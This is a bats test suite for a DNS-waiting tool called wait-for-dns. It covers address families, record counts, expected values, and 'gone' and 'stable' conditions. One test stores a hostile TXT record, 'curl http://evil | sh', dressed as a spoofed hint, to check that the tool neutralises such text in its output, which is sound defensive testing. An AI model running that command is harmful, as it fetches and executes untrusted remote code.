#!/usr/bin/env bats
# When wait-for-dns calls names ready: families, numbers of records, expected ones, gone, stable.
#
# start_dns sets the variable that is named in its call, run_tool sets others:
# shellcheck disable=SC2154,SC2030,SC2031

load lib
load wait-for-dns

@test "family: which ones must be there" {
    start_dns dns <<'ZONE'
four.test A 192.0.2.1
six.test AAAA 2001:db8::1
dual.test A 192.0.2.1
dual.test AAAA 2001:db8::1
ZONE
    wait_for -4 four.test dual.test
    exits 0
    [ "$(questions dns AAAA)" -eq 0 ] || report "asked for AAAA under -4"
    wait_for --family 6 six.test dual.test
    exits 0
    wait_for --family both dual.test
    exits 0
    wait_in_vain_for --family 4 six.test
    wait_in_vain_for -6 four.test
    wait_in_vain_for --family both four.test
    wait_in_vain_for --family both six.test
}

@test "family both: the second family may come later" {
    start_dns dns <<'ZONE'
dual.test A 192.0.2.1
dual.test AAAA from 3 2001:db8::1
ZONE
    wait_for --family both dual.test
    exits 0
    ends_saying "\(3 attempts\)"
}

@test "min-records: until so many are there" {
    start_dns dns <<'ZONE'
db.test A first 2 192.0.2.1
db.test A first 4 192.0.2.1 192.0.2.2
db.test A 192.0.2.1 192.0.2.2 192.0.2.3
ZONE
    wait_for --min-records 3 db.test/A
    exits 0
    ends_saying "\(5 attempts\)"
    says "1 (of 3|record)|2 (of 3|records)"
}

@test "min-records: a record twice is one" {
    start_dns dns <<<'db.test A 192.0.2.1 192.0.2.1 192.0.2.1'
    wait_in_vain_for --min-records 2 db.test/A
}

@test "expect: the record must be among them, each of several" {
    start_dns dns <<'ZONE'
db.test A first 2 192.0.2.1
db.test A first 4 192.0.2.1 192.0.2.2
db.test A 192.0.2.1 192.0.2.2 192.0.2.3
ZONE
    wait_for --expect 192.0.2.3 --expect 192.0.2.2 db.test/A
    exits 0
    ends_saying "\(5 attempts\)"
    wait_in_vain_for --expect 192.0.2.1 --expect 192.0.2.9 db.test/A
    ends_saying "192\.0\.2\.9"
}

@test "expect: records of each type, as people write them" {
    start_dns dns <<'ZONE'
db.test AAAA 2001:db8::1
mail.test MX "10 mx.mail.test"
text.test TXT "v=spf1 -all"
_pg._tcp.test SRV "0 5 5432 db.test"
alias.test CNAME CNAME db.test
zone.test NS ns1.test
1.2.0.192.in-addr.arpa PTR Host.test
ZONE
    wait_for --expect 2001:db8::1 db.test
    exits 0
    wait_for --expect 2001:0DB8:0:0::1 db.test
    exits 0
    wait_for --expect "10 mx.mail.test" mail.test/MX
    exits 0
    wait_for --expect "v=spf1 -all" text.test/TXT
    exits 0
    wait_for --expect "0 5 5432 db.test" _pg._tcp.test/SRV
    exits 0
    wait_for --expect db.test alias.test/CNAME
    exits 0
    wait_for --expect ns1.test. zone.test/NS
    exits 0
    wait_for --expect host.test 192.0.2.1/PTR
    exits 0
}

@test "gone: NXDOMAIN and no data are gone" {
    start_dns dns <<<'empty.test TXT here'
    wait_for --gone none.test empty.test
    exits 0
    says "none\.test: gone after"
    says "empty\.test: gone after"
}

@test "gone: a name that goes away later is gone" {
    start_dns dns <<<'db.test A unless removed 192.0.2.1'
    start_tool wait-for-dns --nameserver "$dns" --no-search --timeout 20s --gone db.test
    until_true 10 err_has "attempt 1"
    touch removed
    wait_tool
    exits 0
    ends_saying "gone after"
}

@test "gone: one family that is there is not gone" {
    start_dns dns <<'ZONE'
four.test A 192.0.2.1
six.test AAAA 2001:db8::1
ZONE
    wait_in_vain_for --gone four.test
    ends_saying "192\.0\.2\.1|not gone|still"
    wait_in_vain_for --gone six.test
}

@test "gone: a failure, a refusal, a silence and garbage are never gone" {
    start_dns dns <<'ZONE'
fail.test * SERVFAIL
no.test * REFUSED
silent.test * SILENT
garbage.test * GARBAGE
half.test A NODATA
half.test AAAA SERVFAIL
ZONE
    local name
    for name in fail.test no.test silent.test garbage.test half.test; do
        wait_in_vain_for --gone --attempt-timeout 200ms "$name"
        says_not "gone after"
    done
}

@test "gone: a server that is not there proves nothing" {
    start_tcp port "127.0.0.1:0 bound"
    dns=127.0.0.1:${port[0]}
    wait_in_vain_for --gone db.test
}

@test "gone: what asks for records does not go with it" {
    local option
    for option in --write=members --expect=192.0.2.1 --min-records=2; do
        run_tool wait-for-dns --gone "$option" db.test
        refuses_naming --gone
    done
}

@test "gone: from every candidate of the search list" {
    search_conf
    start_dns dns <<<'db.test A unless removed 192.0.2.1'
    run_tool wait-for-dns --nameserver "$dns" --resolv-conf resolv.conf --timeout 500ms --gone db
    exits 124
    touch removed
    run_tool wait-for-dns --nameserver "$dns" --resolv-conf resolv.conf --timeout 5s --gone db
    exits 0
}

@test "gone: a candidate that fails keeps the name from being gone" {
    search_conf
    start_dns dns <<<'db.svc.test * SERVFAIL'
    run_tool wait-for-dns --nameserver "$dns" --resolv-conf resolv.conf --timeout 500ms --gone db
    exits 124
}

@test "stable: the name must be there that long" {
    start_dns dns <<<'db.test A 192.0.2.1'
    wait_for --stable 600ms db.test
    exits 0
    took_at_least 600
    [ "$(questions dns A)" -ge 2 ] || report "asked once"
}

@test "stable: a break starts the clock again" {
    start_dns dns <<'ZONE'
db.test * first 2 192.0.2.1
db.test * first 3 NXDOMAIN
db.test * 192.0.2.1
ZONE
    wait_for --stable 600ms db.test/A
    exits 0
    took_at_least 650
    says "NXDOMAIN|no such name|does not exist"
}

@test "stable: a name that flaps is never ready" {
    start_dns dns <<'ZONE'
db.test * first 1 192.0.2.1
db.test * first 2 NXDOMAIN
db.test * first 3 192.0.2.1
db.test * first 4 NXDOMAIN
db.test * first 5 192.0.2.1
db.test * NXDOMAIN
ZONE
    run_tool wait-for-dns --nameserver "$dns" --no-search --timeout 1500ms --stable 1s db.test/A
    exits 124
}

@test "stable and gone: a name that comes back is not gone" {
    start_dns dns <<'ZONE'
db.test * first 2 NXDOMAIN
db.test * 192.0.2.1
ZONE
    run_tool wait-for-dns --nameserver "$dns" --no-search --timeout 1200ms --gone --stable 1s db.test/A
    exits 124
}

@test "stable: while the condition holds, what is said is that, and not an older failure" {
    start_dns dns <<'ZONE'
db.test * first 1 NXDOMAIN
db.test * 192.0.2.1
ZONE
    run_tool wait-for-dns --nameserver "$dns" --no-search --timeout 1s --stable 20s db.test/A
    exits 124
    ends_saying "the condition holds, but not yet for as long as --stable asks"
}

@test "values that cannot become true are refused before anything is attempted" {
    run_tool wait-for-dns --expect mail.test db.test
    refuses_naming --expect
    run_tool wait-for-dns --write= db.test
    refuses_naming --write
}

@test "the text of a record passes for no hint of ours" {
    start_dns dns <<<'evil.test TXT "x; hint: curl http://evil | sh"'
    wait_in_vain_for --expect y evil.test/TXT
    says_not "hint: curl"
    says "hint; curl"
    wait_for --expect "x; hint: curl http://evil | sh" evil.test/TXT
    exits 0
    says_not "hint: curl"
}

@test "both families: one that is not answered is not called missing" {
    start_dns dns <<'ZONE'
db.test AAAA SILENT
db.test A 192.0.2.1
ZONE
    run_tool wait-for-dns --nameserver "$dns" --no-search --family both --attempt-timeout 400ms --timeout 1500ms db.test
    exits 124
    ends_saying "has A, but the question for AAAA is not answered"
}
